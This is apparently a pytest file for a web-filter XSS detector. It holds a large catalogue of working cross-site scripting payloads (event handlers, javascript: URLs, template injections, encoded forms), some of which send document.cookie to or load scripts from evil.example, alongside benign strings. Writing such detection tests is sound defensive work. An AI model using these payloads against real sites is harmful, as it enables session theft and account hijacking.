"""Cross-site scripting as a browser meets it: what runs or loads, and what only looks like it."""

from __future__ import annotations

import csv
import re

import pytest
from tests.support.shared import shared_vectors

from vallum.inspection.decoders.layers import peel
from vallum.inspection.detectors.xss import DETECTOR, RULES
from vallum.inspection.model import LONGEST_TEXT, Content, Context, Judgement
from vallum.inspection.scan import Scan, compile_patterns, load_scan

ATTACKS = {
    "xss.script": (
        "<script>alert(1)</script>",
        '"><script>alert(1)</script>',
        "<ScRiPt >prompt(document.domain)</sCrIpT>",
        "<script src=//evil.example/x.js></script>",
        "<svg><script>alert&#40;1)</script>",
        "<script>fetch('//evil.example/?c='+document.cookie)</script>",
        "</script><script>alert(1)</script>",
        "</title><script>alert(1)</script>",
        "]]><script>alert(1)</script>",
        "data:text/html,<script>alert(1)</script>",
        "<template><script>alert(1)</script></template>",
        "<script>/*&lt;*/alert(1)</script>",
        "<script ~~~>alert(0%0)</script ~~~>",
    ),
    "xss.handler": (
        "<svg/onload=alert(1)>",
        "<svg onload=alert(1)//",
        "<img src=x onerror=alert`1`>",
        "<img src=x onerror=\"window['al'+'ert'](1)\">",
        "<IMG SRC=x oNeRrOr=confirm(1)>",
        "<details open ontoggle=alert(1)>",
        "<video><source onerror=alert(1)></video>",
        "<body onpageshow=alert(1)>",
        "<marquee onstart=alert(1)>",
        "<input autofocus onfocus=alert(1)>",
        "<svg><set attributeName=onmouseover to=alert(1)>",
        "<x onclick=alert(1)>click",
        "<x contenteditable onblur=alert(1)>",
        "<xss onpointerrawupdate=alert(1) style=display:block>",
        "</script><svg onload=alert(1)>",
        "</textarea><img src=x onerror=alert(1)>",
        "--><img src=x onerror=alert(1)>",
        "javascript:/*--></title></style></textarea></script><svg/onload='/*/\"/+alert(1)//'>",
        "<img/src/onerror=alert(1)>",
        "<img src=x:x onerror=import('//x')>",
        '<a onmouseover="throw onerror=alert,1">x',
        "<input type=image src=x onerror=alert(1)>",
        "<image/src/onerror=prompt(8)>",
        "<dialog open onclose=alert(1)>",
        "<style onload=alert(1)></style>",
        "<audio src onloadstart=alert(1)>",
        "<svg onload=eval(location.hash.slice(1))>",
        "<svg onload=top[/al/.source+/ert/.source](1)>",
        "<svg onload=(alert)(1)>",
        "<svg onload=[1].find(alert)>",
        "<svg onload=location=name>",
        "<svg onload=Function`alert\\x281\\x29```>",
        "'\"><img src=x id=dmFyIGE9 onerror=eval(atob(this.id))>",
        "<img src=x onerror=&#97;&#108;&#101;&#114;&#116;(1)>",
        "<iframe/onload=alert(1)>",
    ),
    "xss.url": (
        '<a href="javascript:alert(1)">x</a>',
        '<a href="jav&#x09;ascript:alert(1)">x</a>',
        '<a href="java\nscript:alert(1)">x</a>',
        "<a href=data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==>x</a>",
        '<form action="javascript:alert(1)"><button>x</button></form>',
        "<button formaction=javascript:alert(1)>x",
        '<object data="javascript:alert(1)">',
        "<svg><animate attributeName=href values=javascript:alert(1) /><a id=x>x</a>",
        '<svg><use href="data:image/svg+xml;base64,PHN2Zz4=#x"/></svg>',
        "javascript:alert(1)",
        "JaVaScRiPt:alert(document.cookie)",
        "java\tscript:alert(1)",
        "javascript://%0aalert(1)",
        "javascript://example.com/%0aalert(1)",
        "javascript:fetch('//evil.example?'+document.cookie)",
        "javascript:location='//evil.example'",
        'vbscript:msgbox("x")',
        "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
        "data:,<em>x",
        " data: text/plain;charset=utf-7, </p>",
        "[click](javascript:alert(1))",
        "![x](javascript:alert(1))",
        "[url=javascript:alert(1)]x[/url]",
        '<svg><a xlink:href="javascript:alert(1)"><text>x',
        "<isindex action=javascript:alert(1) type=image>",
        "<iframe src=javascript:alert(1)>",
        '<a href="&#1;javascript:alert(1)">',
    ),
    "xss.mutation": (
        '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;">',
        '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
        '<svg><style><img title="</style><img src onerror=alert(1)>">',
        '<img src="x` `<script>alert(1)</script>"` `>',
    ),
    "xss.load": (
        '<iframe src="//evil.example">',
        "<form action=https://evil.example/steal><input name=password></form>",
        "<base href=//evil.example/>",
        '<meta http-equiv=refresh content="0;url=//evil.example">',
        "<embed src=//evil.example/x.swf>",
        "<link rel=stylesheet href=//evil.example/x.css>",
        '<object type="text/html" data="//evil">',
        "<:embed src=//evil.example/x.swf>",
        "<import namespace=x implementation=//evil.example/x.htc>",
    ),
    "xss.breakout": (
        '" onfocus=alert(1) autofocus x="',
        '" autofocus onfocus="alert(1)',
        "' onmouseover='alert(1)",
        '" onmouseover="alert(1)" x="',
        '"onfocus=alert(1) autofocus="',
        "x onmouseover=alert(1)",
        '" style="width:expression(alert(1))',
        '" href="javascript:alert(1)',
        '"/onclick=alert(1)/"',
        "\\x3cimg src=x onerror=alert(1)\\x3e",
        "<a href=//evil.example/'onclick='alert(1)'>",
    ),
    "xss.style": (
        "<style>@import '//evil.example/x.css';</style>",
        '<div style="width:expression(alert(1))">',
        "<style>\\69mport",
        "<style type=x>\n*{x\\3a y",
    ),
    "xss.dangling": ("<img src='https://evil.example/log?",),
    "xss.javascript": (
        "'};onerror=alert;throw 1;{'",
        "'+{valueOf:alert}+'",
        "x=setTimeout`alert\\x281\\x29`",
        "'-[1].find(alert)-'",
        "'-alert(1)-'",
        '"-alert(1)-"',
        "';alert(1)//",
        '";alert(1)//',
        "\\';alert(1)//",
        "\\\\';alert(1)//",
        "'+alert(1)+'",
        "');alert(1)//",
        '"}];alert(1)//',
        "'^confirm`1`^'",
        "';location='//evil.example/'+document.cookie//",
        '";document.location="https://evil.example/?"+document.cookie;//',
        '\';window["al"+"ert"](1);\'',
        "\"-eval(atob('YWxlcnQoMSk='))-\"",
        "'-import('//evil.example/x.js')-'",
        "';fetch(`//evil.example/?${document.cookie}`);'",
        "'};alert(1);function x(){'",
        "'||alert(1)||'",
        "'?alert(1):'",
        "'*alert(1)*'",
        "${alert(1)}",
        "`-alert(1)-`",
        "＜script＞alert(1)＜/script＞",
        "&lt;script&gt;alert(1)&lt;/script&gt;",
        '";Function("ale"+"rt(1)")();//',
        "';$.getScript('//evil.example/x.js');//",
        "1;alert(1)",
        "1-alert(1)",
        "*/alert(1)/*",
        "Array.prototype.map.call`${1}`",
        "x.sort.apply`1`",
        "'+[alert][0](1)+'",
        "alert(document.cookie)",
        "eval(name)",
        'top["al"+"ert"](1)',
        "self[`al`+`ert`](1)",
    ),
    "xss.template": (
        "{{constructor.constructor('alert(1)')()}}",
        "{{$on.constructor('alert(1)')()}}",
        "{{'a'.constructor.prototype.charAt=[].join;$eval('x=1} } };alert(1)//');}}",
        "{{x={'y':''.constructor.prototype};x['y'].charAt=[].join;$eval('x=alert(1)');}}",
        "{{_c.constructor('alert(1)')()}}",
        "{{toString().constructor.fromCharCode(97)}}",
        "<div ng-app ng-csp><input ng-focus=$event.view.alert(1)>",
        "<div v-html=\"''.constructor.constructor('alert(1)')()\">a</div>",
        '<div x-init="alert(1)">',
    ),
    "xss.disguise": (
        "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
        "[][(![]+[])[+[]]+([![]]+[][[]])[+!+[]+[+[]]]+(![]+[])[!+[]+!+[]]]",
        "¼script¾alert(¢xss¢)¼/script¾",
        "¼em class=x¾hello¼/em¾",
        "+ADw-em+AD4-hello+ADw-/em+AD4-",
        "< script>x",
        "<  iframe src=//evil.example>",
        "< svg : script",
        "<a:  object data=//evil.example>",
    ),
}
HARMLESS = (
    "<b>bold</b>",
    "I <3 you",
    "a < b and c > d",
    "toString: prompt reply",
    "rows.map(function (row) { return row.id; })",
    "items.find(id)",
    "x<y and y>z",
    "List<String> names = new ArrayList<>();",
    "Map<String, List<Object>> m",
    "<name@example.com>",
    "John Smith <john@example.com>",
    "<https://example.com/path?x=1>",
    "<br>",
    "<br/>",
    "<p>Hello <i>world</i></p>",
    '<a href="https://example.com">link</a>',
    '<img src="https://example.com/x.png" alt="x">',
    "<note><to>Tove</to><from>Jani</from></note>",
    '<item online="true" onsale="1"/>',
    "<Button onClick={handleClick}>Save</Button>",
    '<input type="text" onChange={e => setX(e.target.value)} />',
    "JavaScript: The Good Parts",
    "javascript: how do I sort an array?",
    "I love Java: script kiddies do not",
    "Java Script: an introduction",
    "Use the <script> tag in the head of your page.",
    "How do I put a <script> tag inside <head>?",
    "an <iframe> embeds another page",
    'the onclick attribute is set to "foo"',
    "one = 1; two = 2; once=3",
    "online=true&onsale=1",
    "only=foo(x)",
    "Function (mathematics)",
    "Alert (album)",
    "Prompt (natural language)",
    "Alert(s)",
    "import(s)",
    "Option(s)",
    "1alert(1)",
    "window of opportunity",
    "document.title",
    "See document 12 (annex)",
    "The function eval() is dangerous, do not use it.",
    "please confirm (by Friday) that you can come",
    '"Smith, John" <john.smith@example.com>',
    "'tis the season; don't worry",
    "rock 'n' roll",
    "O'Brien",
    'He said "yes", she (Anna) said "no"',
    '"a", "b", (c)',
    "the boys' (small) cars",
    "it's 5\" - really (see below)",
    "https://example.com/?q=a&b=c#frag",
    "https://maps.example.com/location?position=center&zoom=10",
    "data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==",
    '{"a": "b", "c": [1, 2, {"d": "e()"}]}',
    'query { user(id: "1") { name } }',
    "{{ user.name }}",
    "{{ format(date) }}",
    "Hello {{name}}, your order {{order.id}} is ready",
    "{{#if items}}{{/if}}",
    "${user.name}",
    "- [ ] task",
    "- [x] done",
    "![](https://example.com/a.png)",
    "[link](https://example.com)",
    "[!NOTE] this is a note",
    '[] + [] = ""',
    "if (a[0] != b[1]) { return !a; }",
    "^(?:[a-z0-9]+)*$",
    '^\\s*([^"\']+)\\s*=\\s*"(.*)"$',
    "C:\\Users\\me\\Documents",
    "/usr/local/bin/foo",
    "SELECT * FROM users WHERE name = 'x';",
    'print("hello " + name)',
    "console.log('a' + foo(b));",
    "const x = await fetch('/api/users').then(r => r.json());",
    'document.getElementById("app")',
    "setTimeout(() => { done(); }, 500);",
    "def f(self): self.write(x)",
    "self.location = location",
    "location = Berlin",
    "parent.location",
    "self[0] = x",
    'content["a"] = b',
    "for i in range(10): print(i)",
    "#include <stdio.h>",
    'std::vector<int> v; std::cout << "x" << std::endl;',
    "Vec<Option<Box<dyn Fn(&str) -> String>>>",
    "template<typename T, class U = std::less<T>>",
    "a->b; c <- d; e <= f",
    "if (x <y && z> 3) foo();",
    "Optional<T extends Comparable<T>>",
    "<!-- TODO: rewrite -->",
    '<?xml version="1.0" encoding="UTF-8"?><root><item id="1">x</item></root>',
    '<svg xmlns="http://www.w3.org/2000/svg"><path d="M0 0h24v24H0z" fill="none"/></svg>',
    "<!DOCTYPE html>",
    '<table width="99%" border="0" cellpadding="1">',
    "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0",
    "width: 100px; color: red",
    "font-style: italic; behavior: smooth",
    "The patient's behavior: aggressive (see notes)",
    "regular expression (regex) syntax: expression (a|b)*",
    "x = expression(a)",
    "Tom & Jerry; AT&T; R&D; Q&A",
    "price < 100 EUR, weight > 5kg",
    "<3 <3 <3 ^_^ >:( :-> <(^_^<)",
    "(╯°□°)╯︵ ┻━┻",
    "¯\\_(ツ)_/¯",
    "2 ¼ cups of flour, ½ tsp salt",
    "¼ cup",
    "L'été dernier, j'ai mangé « des crêpes » à l'hôtel",
    "„Guten Tag“, sagte er (leise) und ging",
    "Он сказал: «привет» (тихо)",
    "彼は「はい」と言った（小声で）",
    "<Ctrl>+<Alt>+<Del>",
    "press <Enter> to continue",
    "<username> and <password> placeholders",
    'git commit -m "fix: don\'t call foo()" && git push',
    'curl -H "Authorization: Bearer x" https://api.example.com/v1?a=b',
    "The <b> and <i> tags",
    'Try/catch: throw new Error("x");',
    "e.g. f(x) = a*x + b; g(x) = f(x)/2",
    '"foo" + "bar" = "foobar"',
    "'a' || 'b'",
    "'x' + y('z')",
    'name="foo" value="bar"',
    'class="btn btn-primary" href="https://example.com/" style="color:red"',
    '<a class="btn" href="/home" style="color:red" data-id="5">Home</a>',
    "5' 10\" tall; weight=80kg (approx)",
    "top 10 songs (2024)",
    "parent(s) or guardian(s)",
    "Window(s) 11",
    "self-service (24/7)",
    "confirm",
    "alert",
    "eval",
    "call me at +49 (0)30 123-456",
    "+ADN, +ACE, AD4-class",
    "ACID-compliant",
    "\"quoted\", 'single', `tick`",
    "Use `alert(1)` to test.",
    "`npm install`; then run `foo(bar)`.",
    'Press "OK", then call foo() // done',
    '"text": "x", "y": foo(z) // comment',
    'I\'m "ok"; foo(bar) // not code',
    "Don't; stop (please) // thanks",
    "@import in CSS loads a file",
    "url(https://example.com/a.png)",
    "mailto:someone@example.com",
    "base64: SGVsbG8gV29ybGQ=",
    "on = off",
    "alerts_url",
    '"alerts":[],"prompts":{"eval_count":3},"confirmed":true',
    "a < script",
    "x < object.size",
    "<:party_parrot:182093>",
    "if n < iframe_count and n > 3",
    "Use the <style> tag in C:\\site\\index.html",
    "data: , then a comma",
    "Data: 5, <b>x</b>",
    "¼ cup of sugar and ¾ cup of <b>milk</b>",
    "¼em¾ is a width",
    "arr.map `x` in the tutorial",
    "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'></svg>",
    "On error=42 stop",
    "version = 1.0; option=2; onboarding=done",
    'a="get";',
    "data: text/html files are fine",
    "content-type: text/html; charset=utf-8",
    "Metadata: html, xml",
    "The Data:text ratio",
    "SomeClass.constructor",
    "class A { constructor(x) { this.x = x; } }",
    "arr.map(x => x * 2).sort()",
    "Array.prototype.slice.call(arguments)",
    "foo.apply(this, args)",
)
# Style that only changes how things look, document types, plain links and pictures, lone words.
_NOT_XSS = re.compile(
    r"font-family:|background:url\((?!.?javascript)|content:url\(|marker-start|\[b\]:\[c\]"
    r"|<!DOCTYPE|xsl:stylesheet|<svg[^>]*>\Z|<svg:|<math><a xlink:href=.//|javascript#"
    r"|href=.http://\d*s?e?r?v?e?r?(?:\.com)?/|color\\\\|&\{\(\)\}|=&{|\A</body>|file\.php\?"
    r"|\A.?a=.get|rhainfosec\Z|\A.alert\(1\).>|background-image:52c8"
    r"|x:expression8|\Awrite\(1\)",
    re.IGNORECASE,
)


@pytest.fixture(scope="module")
def scan() -> Scan:
    return load_scan(compile_patterns(DETECTOR.triggers))


def _judged(text: str, content: Content = "text") -> Judgement | None:
    return DETECTOR.judge(text, Context("query", "q", content))


def _score(text: str, content: Content = "text") -> int:
    judgement = _judged(text, content)
    return judgement.score if judgement else 0


def _stopped(scan: Scan, text: str) -> bool:
    return bool(scan(text.encode())) and _score(text) >= 5


@pytest.mark.parametrize(
    ("rule", "text"), [(rule, text) for rule, texts in ATTACKS.items() for text in texts]
)
def test_attack(scan: Scan, rule: str, text: str) -> None:
    judgement = _judged(text)

    assert scan(text.encode())
    assert judgement is not None
    assert (judgement.rule, judgement.score >= 5) == (rule, True)
    assert judgement.evidence
    assert len(judgement.evidence) <= 120


@pytest.mark.parametrize(
    "name", [" onxyzzy=", "onload = ", "a/onfoobar=1", '"onwhatever=x', "x onerror\t="]
)
def test_nobody_calls_a_parameter_like_a_handler(scan: Scan, name: str) -> None:
    judgement = DETECTOR.judge(name, Context("query", name, is_name=True))

    assert scan(name.encode())
    assert judgement is not None
    assert judgement.score >= 5


@pytest.mark.parametrize("name", ["onload", "online", "once=", "common=1", "options[on]", "on=x"])
def test_parameters_that_begin_alike_pass(name: str) -> None:
    judgement = DETECTOR.judge(name, Context("query", name, is_name=True))

    assert judgement is None or judgement.score < 5


@pytest.mark.parametrize("content", ["text", "prose"])
@pytest.mark.parametrize("text", HARMLESS)
def test_harmless(text: str, content: Content) -> None:
    assert _score(text, content) <= 4


@pytest.mark.parametrize("separator", ["\x00", "\t", "\n", "\x0b", "\x0c", "\r", "/", " / "])
def test_anything_that_separates_separates(separator: str) -> None:
    assert _score(f"<img{separator}src=x{separator.strip('/') or ' '}onerror=alert(1)>") >= 8


@pytest.mark.parametrize("handler", ["onload", "onpointerrawupdate", "onscrollsnapchange"])
@pytest.mark.parametrize("around", ["<x {}=alert(1)>", '" {}=alert(1) x="', "' {}=alert(1)//"])
def test_every_handler_in_every_context(scan: Scan, handler: str, around: str) -> None:
    assert _stopped(scan, around.format(handler))


def test_a_handler_that_no_browser_knows_yet_needs_an_effect() -> None:
    assert _score("<x onfuturething=alert(1)>") >= 7
    assert _score('<item online="true" onsale="yes"/>') <= 3


def test_more_markup_than_anybody_writes() -> None:
    judgement = _judged("<a b=c>" * (LONGEST_TEXT // 7))

    assert judgement is not None
    assert (judgement.rule, judgement.score) == ("xss.flood", 5)


def test_padding_hides_nothing() -> None:
    attack = "<svg onload=alert(1)>"
    for filler in ("<p>", "a ", "'", '"', "<b x=y>", "{{", "{{a}}", "javascript: ", "<!--", "\n"):
        assert _score(filler * ((LONGEST_TEXT - len(attack)) // len(filler)) + attack) >= 5


def test_every_rule_is_explained() -> None:
    assert DETECTOR.rules is RULES
    assert set(ATTACKS) <= set(RULES)


def test_corpus_of_libinjection(scan: Scan) -> None:
    files = sorted((shared_vectors() / "attacks" / "libinjection").glob("xss-*.txt"))
    lines = {line for file in files for line in file.read_text("utf-8", "replace").splitlines()}
    attacks = [line for line in lines if line and line[0] != "#" and not _NOT_XSS.search(line)]
    missed = [line for line in attacks if not _found_in_some_reading(scan, line)]

    assert len(attacks) > 1_400
    assert len(missed) <= 0.03 * len(attacks), missed[:20]


def test_corpus_of_httpparams(scan: Scan) -> None:
    file = shared_vectors() / "attacks" / "httpparams_train.csv"
    with file.open(encoding="utf-8", errors="replace", newline="") as lines:
        rows = [(row["attack_type"], row["payload"]) for row in csv.DictReader(lines)]
    attacks = [text for kind, text in rows if kind == "xss" and not _NOT_XSS.search(text)]
    missed = [text for text in attacks if not _found_in_some_reading(scan, text)]
    stopped = [text for kind, text in rows if kind == "norm" and _stopped(scan, text)]

    assert len(attacks) > 300
    assert len(missed) <= 0.05 * len(attacks), missed[:20]
    assert stopped == []


def test_texts_that_look_like_attacks(scan: Scan) -> None:
    file = shared_vectors() / "benign" / "libinjection_false_positives.txt"
    lines = file.read_text("utf-8", "replace").splitlines()

    assert [line for line in lines if _stopped(scan, line)] == []


def _found_in_some_reading(scan: Scan, text: str) -> bool:
    return any(_stopped(scan, reading) for reading in (text, *(view.text for view in peel(text))))
